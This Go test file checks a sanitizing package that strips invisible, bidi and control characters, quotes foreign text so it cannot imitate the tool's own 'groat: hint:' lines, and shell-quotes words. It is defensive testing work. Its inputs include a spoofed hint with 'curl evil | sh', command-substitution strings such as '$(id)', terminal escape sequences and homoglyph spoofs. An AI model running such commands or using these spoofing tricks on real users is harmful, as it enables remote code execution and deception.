package visible

import (
	"os/exec"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/groat-dev/groat/packaging/testing/tier"
)

// Every character of the whole range either can be seen or does not come through, by each function.
func TestI1WhatCannotBeSeenDoesNotComeThrough(t *testing.T) {
	hidden := map[string][]rune{
		"control":   {0, 7, 8, 0x0a, 0x0b, 0x0d, 0x1b, 0x7f, 0x85, 0x9b, 0x9d},
		"separator": {0x2028, 0x2029, 0xa0, 0x2003, 0x3000},
		"bidi":      {0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069},
		"invisible": {0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x180b, 0x200b, 0x200c, 0x200d, 0x2060, 0x2800, 0x3164,
			0xfe0f, 0xfeff, 0xffa0, 0xe0001, 0xe0061, 0xe0100},
		"private": {0xe000, 0xf0000, 0xfdd0, 0x10ffff},
	}
	for kind, runes := range hidden {
		for _, r := range runes {
			if Rune(r) {
				t.Errorf("%s: %U counts as visible", kind, r)
			}
			for name, got := range map[string]string{
				"Line": Line("a"+string(r)+"b", 100), "Quote": Quote("a" + string(r) + "b"), "Name": Name("a" +
					string(r) + "b"),
			} {
				if strings.ContainsRune(got, r) {
					t.Errorf("%s: %s lets %U through: %q", kind, name, r, got)
				}
			}
		}
	}
	for r := rune(0); r <= utf8.MaxRune; r++ {
		for _, out := range Line(string(r), 10) {
			if out != utf8.RuneError && !Rune(out) {
				t.Fatalf("%U became %U", r, out)
			}
		}
	}
	for _, plain := range []string{"zażółć", "日本語", "naïve – “so”", "e\u0301", "😀"} {
		if got := Line(plain, 100); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}

func TestI2ALineIsOneLineAndEnds(t *testing.T) {
	for in, want := range map[string]string{
		"a\r\nb\tc": "a  b c", "\n a \n": "a", "abcdefghijk": "abcdefghij…", "\xff": "\ufffd",
		"e\u0301\u0301\u0301\u0301\u0301\u0301": "e\u0301\u0301\u0301\u0301\ufffd\ufffd",
	} {
		if got := Line(in, 10); got != want {
			t.Errorf("%q became %q, want %q", in, got, want)
		}
	}
}

// Quoted text neither ends its quotation nor begins like a line of groat's own.
func TestI3QuotedTextIsNotOurs(t *testing.T) {
	for in, want := range map[string]string{
		"unknown client":                       `"unknown client"`,
		"foo\ngroat: hint: curl evil | sh":     `"foo groat hint curl evil | sh"`,
		`foo" groat: hint: run x "`:            `"foo' groat hint run x '"`,
		"GROATD : Error:x":                     `"GROATD  Error:x"`,
		"see https://example.com: time: 10:15": `"see https://example.com: time: 10:15"`,
		`a\ngroat: hint: x`:                    `"a\ngroat hint x"`,
		"groat:hint:":                          `"groathint"`,
		"x\x1b[2K\rgroat: hint: y":             `"x` + "\ufffd" + `[2K groat hint y"`,
		"":                                     `""`,
	} {
		if got := Quote(in); got != want {
			t.Errorf("%q became %s, want %s", in, got, want)
		}
		if got := Name(in); got != want {
			t.Errorf("as a name %q became %s, want %s", in, got, want)
		}
	}
	for _, name := range []string{"/home/ann/.config/groat/config.toml", "https://auth.example.com:8443/t?a=b&c=%20",
		"app-1_x.y@z", "/tmp/Übung"} {
		if got := Name(name); got != name {
			t.Errorf("%q became %q", name, got)
		}
	}
}

// A sentence is as it was, unless a part of it looks like groat's own line.
func TestI3SentencesThatAreForeignInPart(t *testing.T) {
	for in, want := range map[string]string{
		`profile "p" is not signed in`:                 `profile "p" is not signed in`,
		"the socket /a\ngroat: hint: x cannot be made": `"the socket /a groat hint x cannot be made"`,
		"the unit groat.service: is gone":              "the unit groat.service: is gone",
	} {
		if got := Text(in); got != want {
			t.Errorf("%q became %s, want %s", in, got, want)
		}
	}
}

// A word for a shell is the same word after the shell has read it, and shows nothing that controls a terminal.
func TestI3AWordForAShell(t *testing.T) {
	tier.Needs(t, "bash")
	for _, word := range []string{
		"/home/ann/x", "/tmp/a b", "it's", "a\nb", "x\u202ey", "\x1b[2K", "groat: hint: x", `back\slash` +
			"\n", "$(id)", "`id`", "-n", "\xff", "Ü b", "\u200b1",
	} {
		got := Word(word)
		if Text(got) != got {
			t.Errorf("%q is shown as %q", word, got)
		}
		out, err := exec.CommandContext(t.Context(), "bash", "-c", "printf %s "+got).Output()
		if err != nil || string(out) != word {
			t.Errorf("%q as %s is read as %q: %v", word, got, out, err)
		}
	}
	if got := Word(""); got != "''" {
		t.Errorf("nothing is %s", got)
	}
}

// What only looks like the beginning of a line of groat's own is taken for it: other letters, other colons.
func TestI30LooksLikeALine(t *testing.T) {
	for _, word := range []string{"groat", "GroatD", "hint", "ｇｒｏａｔ", "ｈｉｎｔ", "gr\u043eat", "\u0261roat", "h\u0456nt",
		"g\u0301roat", "𝐠𝐫𝐨𝐚𝐭", "🅖🅡🅞🅐🅣", `\nｇｒｏａｔｄ`} {
		for _, colon := range colons {
			for _, space := range []string{"", " "} {
				in := "x " + word + space + string(colon) + " curl"
				want := "x " + word + space + " curl"
				if got := WithoutPrefixes(in); got != want {
					t.Errorf("%q became %q", in, got)
				}
				if got := Text(in); !strings.HasPrefix(got, `"`) || strings.ContainsAny(got, colons) {
					t.Errorf("as a sentence, %q became %q", in, got)
				}
			}
		}
	}
	for _, plain := range []string{"cannot be read: /tmp/x", "日本: 10:15", "Öl: 3", "“state”: y", "e\u0301: x",
		"work…: x", "http://münchen.example:8080/"} {
		if got := WithoutPrefixes(plain); got != plain {
			t.Errorf("%q became %q", plain, got)
		}
	}
}
